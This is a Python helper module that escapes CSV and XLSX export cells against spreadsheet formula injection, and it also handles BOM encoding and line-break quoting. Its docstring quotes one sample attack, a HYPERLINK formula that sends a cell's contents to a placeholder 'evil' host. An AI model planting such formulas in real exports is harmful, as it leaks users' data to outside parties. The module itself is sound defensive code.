"""Cells for spreadsheets: the one helper every CSV and XLSX export uses.

Formula injection (OWASP "CSV Injection"): a cell that begins with ``=``, ``+``, ``-``, ``@``,
a tab or a carriage return is run as a formula by Excel, LibreOffice and Google Sheets
(``=HYPERLINK("http://evil…"&A1)`` in an article title). Such text cells get a leading single
quote, which spreadsheets show as text. Numbers stay numbers: ``-1.5`` (a float, or a string
that is exactly a number) is not escaped. In XLSX files text cells are written as text
(``data_type 's'``, Excel's quote-prefix style for the risky ones) so nothing is ever a formula.

CSV meant for spreadsheets is written as UTF-8 with a byte-order mark by default, so that
Excel on a Chinese (or any non-UTF-8) Windows opens it right; ``bom=False`` (the CLI's
``--no-bom``) writes plain UTF-8 for other programs.
"""

from __future__ import annotations

import csv
import math
import re
from collections.abc import Iterable, Sequence
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")

BOM_ENCODING = "utf-8-sig"


def is_risky_text(text: str) -> bool:
    """Text a spreadsheet would run as a formula (a plain number is not risky)."""
    return text.startswith(FORMULA_STARTS) and _NUMBER.fullmatch(text) is None


def safe_text(text: str) -> str:
    """``text`` as a spreadsheet shows it literally (OWASP: a leading single quote)."""
    return "'" + text if is_risky_text(text) else text


def unescape_text(text: str) -> str:
    """Read back a cell ``safe_text`` escaped (our own exports re-import unchanged)."""
    return text[1:] if text.startswith("'") and is_risky_text(text[1:]) else text


def safe_cell(value: Any) -> Any:
    """A value for a CSV/XLSX cell: numbers as they are, text escaped, lists joined."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return int(value)
    if isinstance(value, int | float):
        return value
    if isinstance(value, list | tuple):
        value = ", ".join(str(v) for v in value)
    return safe_text(str(value))


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in row]


def csv_text(header: Sequence[str], rows: Iterable[Iterable[Any]], lineterminator: str = "\n") -> str:
    """A CSV document (no BOM: add it when writing the file) with every cell escaped.

    A cell holding a line break of either kind is quoted whatever ``lineterminator`` is (with
    ``"\n"`` alone, the csv module leaves a bare ``\r`` unquoted, and readers start a new row,
    beginning with whatever follows it, there)."""
    out = _Rows(lineterminator)
    writer = csv.writer(out, lineterminator="\r\n")  # quotes every cell with \r or \n
    writer.writerow(safe_row(header))
    writer.writerows(safe_row(r) for r in rows)
    return "".join(out.parts)


class _Rows:
    """A file for csv.writer (one write per row): each row's ``\r\n`` becomes ``end``."""

    def __init__(self, end: str) -> None:
        self.end = end
        self.parts: list[str] = []

    def write(self, row: str) -> int:
        self.parts.append(row[:-2] + self.end)
        return len(row)


def csv_encoding(bom: bool = True) -> str:
    return BOM_ENCODING if bom else "utf-8"


def write_csv_file(
    path: Path, header: Sequence[str], rows: Iterable[Iterable[Any]], bom: bool = True
) -> None:
    """Write an escaped CSV file (UTF-8 with a BOM unless ``bom`` is false)."""
    with Path(path).open("w", encoding=csv_encoding(bom), newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(safe_row(header))
        writer.writerows(safe_row(r) for r in rows)


def xlsx_cell(value: Any) -> tuple[Any, bool]:
    """(value, is_text) for an XLSX cell: text is stored as text, unchanged; numbers as numbers."""
    if value is None:
        return None, False
    if isinstance(value, bool | date | Decimal):
        return value, False
    if isinstance(value, int | float):
        return (value if math.isfinite(value) else str(value)), not math.isfinite(value)
    if isinstance(value, list | tuple):
        return ", ".join(str(v) for v in value), True
    return str(value), True
